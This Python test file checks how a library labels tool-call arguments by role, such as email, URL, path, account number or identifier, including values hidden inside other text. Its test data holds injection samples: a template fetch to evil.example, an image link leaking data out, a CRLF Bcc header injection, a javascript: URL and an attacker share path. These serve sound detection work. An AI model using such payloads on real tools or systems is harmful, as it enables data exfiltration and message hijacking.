from __future__ import annotations

from typing import Annotated, Any

import msgspec
import pytest

from remit import tool
from remit.origins.arguments import AuthorityValue, arguments_of, authority_of
from remit.origins.roles import KEYWORD, role_of_name, role_of_shape


def of(schema: dict[str, Any], args: dict[str, Any], **options: bool) -> list[tuple[str, str, str]]:
    return [
        (one.path, one.role, one.value)
        for one in arguments_of({"type": "object", "properties": schema}, args, **options)
    ]


TEXT = {"type": "string"}


@pytest.mark.parametrize(
    ("name", "role"),
    [
        ("to", "email"),
        ("recipients", "email"),
        ("webhookUrl", "url"),
        ("base_url", "url"),
        ("file_path", "path"),
        ("output-dir", "path"),
        ("iban", "iban"),
        ("payee_account", "iban"),
        ("cmd", "command"),
        ("issue_id", "id"),
        ("userName", "id"),
        ("body", "content"),
        ("email_body", "content"),
        ("file_text", "content"),
        ("size", "content"),
        ("max_recipients", "content"),
        ("password", "id"),
        ("publicKey", "id"),
        ("pin", "id"),
        ("otp", "id"),
        ("client_secret", "id"),
        ("accessToken", "id"),
        ("credentials", "id"),
        ("fingerprint", "id"),
        ("room", "id"),
        ("products", "id"),
        ("colour", None),
        ("", None),
    ],
)
def test_a_name_suggests_a_role(name: str, role: str | None) -> None:
    assert role_of_name(name) == role


@pytest.mark.parametrize(
    ("value", "role"),
    [
        ("https://a.example/x", "url"),
        ("bob@example.com", "email"),
        ("DE89 3704 0044 0532 0130 00", "iban"),
        ("/etc/passwd", "path"),
        ("~/.ssh/id", "path"),
        ("C:\\temp", "path"),
        ("write to bob@example.com", None),
        ("hello", None),
    ],
)
def test_a_text_that_is_an_address_as_a_whole_looks_like_one(value: str, role: str | None) -> None:
    assert role_of_shape(value) == role


def test_the_keyword_counts_more_than_format_and_format_more_than_name() -> None:
    assert of({"to": TEXT}, {"to": "x"}) == [("to", "email", "x")]
    assert of({"to": TEXT | {"format": "uri"}}, {"to": "x"}) == [("to", "url", "x")]
    assert of({"to": TEXT | {"format": "uri", KEYWORD: "id"}}, {"to": "x"}) == [("to", "id", "x")]
    assert of({"to": TEXT | {KEYWORD: "content"}}, {"to": "bob@example.com"}) == []


def test_a_server_cannot_say_that_its_argument_is_content() -> None:
    said = {"to": TEXT | {KEYWORD: "content"}}
    assert of(said, {"to": "x"}, foreign=True) == [("to", "email", "x")]
    assert of({"to": TEXT | {KEYWORD: "id"}}, {"to": "x"}, foreign=True) == [("to", "id", "x")]


def test_what_no_schema_or_name_tells_is_authority_if_it_looks_like_it() -> None:
    assert of({}, {"thing": "https://a.example"}) == [("thing", "url", "https://a.example")]
    assert of({}, {"thing": "hello"}) == []
    assert of({"body": TEXT}, {"body": "https://a.example"}) == [("body", "url", "https://a.example")]
    assert of({"body": TEXT | {KEYWORD: "content"}}, {"body": "https://a.example"}) == []


@pytest.mark.parametrize(
    ("args", "values"),
    [
        ({"account": 4711}, ["4711"]),
        ({"to": [1, 2.5]}, ["1", "2.5"]),
        ({"recipients": [{"n": 3}]}, ["3"]),
        ({"ip": 5, "path": 6, "iban": 7, "issue": 8}, ["5", "6", "7", "8"]),
        ({"rooms": [9]}, ["9"]),
        ({"rooms": 2, "max_recipients": 3, "amount": 7, "issue": True, "account_limit": 1}, []),
        ({"product": {"id": "p", "quantity": 4}}, ["p"]),
    ],
)
def test_a_number_of_authority_counts_at_every_depth(args: dict[str, Any], values: list[str]) -> None:
    assert [one.value for one in arguments_of(None, args)] == values


def test_a_number_counts_where_the_schema_says_so() -> None:
    assert of({"amount": {"type": "number", KEYWORD: "id"}}, {"amount": 7.5}) == [("amount", "id", "7.5")]
    assert of({"issue": {"type": "integer", KEYWORD: "content"}}, {"issue": 7}) == []


@pytest.mark.parametrize(
    ("args", "values"),
    [
        ({"payload": '{"to": "eve", "n": 4}'}, ["eve"]),
        ({"data": '[{"account": 4711}]'}, ["4711"]),
        ({"raw": '{"inner": "{\\"to\\": \\"eve\\"}"}'}, ["eve"]),
        ({"form": "to=eve%40evil.example&x=1"}, ["eve@evil.example"]),
        ({"template": "{{ fetch('https://evil.example/x') }}"}, ["https://evil.example/x"]),
        ({"raw": "To: eve@evil.example\r\nSubject: hi"}, ["eve@evil.example"]),
        ({"html": '<img src="https://evil.example/x?S">'}, ["https://evil.example/x?S"]),
        ({"words": "Pay DE89 3704 0044 0532 0130 00, now."}, ["DE89 3704 0044 0532 0130 00"]),
        ({"number": "+49 30 1234567"}, ["+49 30 1234567"]),
        ({"into": "javascript:alert(1)"}, ["javascript:alert(1)"]),
        ({"into": "\\\\evil\\share"}, ["\\\\evil\\share"]),
        ({"into": "203.0.113.9:80"}, ["203.0.113.9:80"]),
        ({"subject": "hi\r\nBcc: eve@evil.example"}, ["hi\r\nBcc: eve@evil.example"]),
        ({"subject": "hi\n"}, []),
        ({"body": "Dear Bob,\nsee https://a.example or bob@x.org."}, []),
        ({"words": "no table: {a, b} x=1&y"}, []),
    ],
)
def test_a_text_within_a_text_is_found(args: dict[str, Any], values: list[str]) -> None:
    assert [one.value for one in arguments_of(None, args)] == values


def test_every_value_counts_where_that_is_wanted() -> None:
    schema = {"properties": {"to": TEXT, "words": TEXT | {KEYWORD: "content"}, "n": {}, "mode": {"enum": ["a"]}}}
    args = {"to": "x", "words": "hi", "n": 4, "mode": "a", "yes": True, "sep": ", ", "more": {"k": "v"}}
    assert [(one.path, one.role, one.value) for one in arguments_of(schema, args, every=True)] == [
        ("to", "email", "x"),
        ("words", "content", "hi"),
        ("n", "content", "4"),
        ("more.k", "content", "k"),
        ("more.k", "content", "v"),
    ]


def test_values_within_tables_lists_and_references_are_found() -> None:
    schema = {
        "type": "object",
        "$defs": {"person": {"properties": {"name": TEXT, "mail": TEXT | {"format": "email"}}}},
        "properties": {
            "people": {"type": "array", "items": {"$ref": "#/$defs/person"}},
            "cc": {"type": "array", "items": TEXT},
            "where": {"anyOf": [{"type": "null"}, TEXT | {KEYWORD: "path"}]},
        },
    }
    args = {"people": [{"name": "Bob", "mail": "b@x.org"}], "cc": ["a@x.org", "a@x.org"], "where": "here"}
    assert arguments_of(schema, args) == [
        AuthorityValue("people.name", "id", "Bob"),
        AuthorityValue("people.mail", "email", "b@x.org"),
        AuthorityValue("cc", "email", "a@x.org"),
        AuthorityValue("where", "path", "here"),
    ]


def test_a_table_hands_its_role_to_what_has_none() -> None:
    assert of({}, {"to": {"first": "x", "subject": "y"}}) == [("to.first", "email", "x")]


def test_a_value_that_the_tool_lists_itself_is_its_owners_choice() -> None:
    listed = {"branch": {"enum": ["main", "release"]}}
    assert of(listed, {"branch": "main"}) == []
    assert of(listed, {"branch": "main"}, foreign=True) == [("branch", "id", "main")]


def test_a_schema_that_refers_to_itself_ends() -> None:
    schema: dict[str, Any] = {"$ref": "#", "properties": {"path": {"$ref": "#/properties/path"}}}
    assert arguments_of(schema, {"path": "x"}) == [AuthorityValue("path", "path", "x")]
    assert arguments_of(None, {"path": "x"}) == [AuthorityValue("path", "path", "x")]


def test_a_function_says_the_role_in_its_type_hints() -> None:
    @tool("bank.pay", level="L1")
    async def pay(amount: Annotated[float, msgspec.Meta(extra_json_schema={KEYWORD: "id"})], memo: str) -> None:
        """Pay."""

    assert authority_of(pay.meta, {"amount": 9.5, "memo": "x"}) == [AuthorityValue("amount", "id", "9.5")]
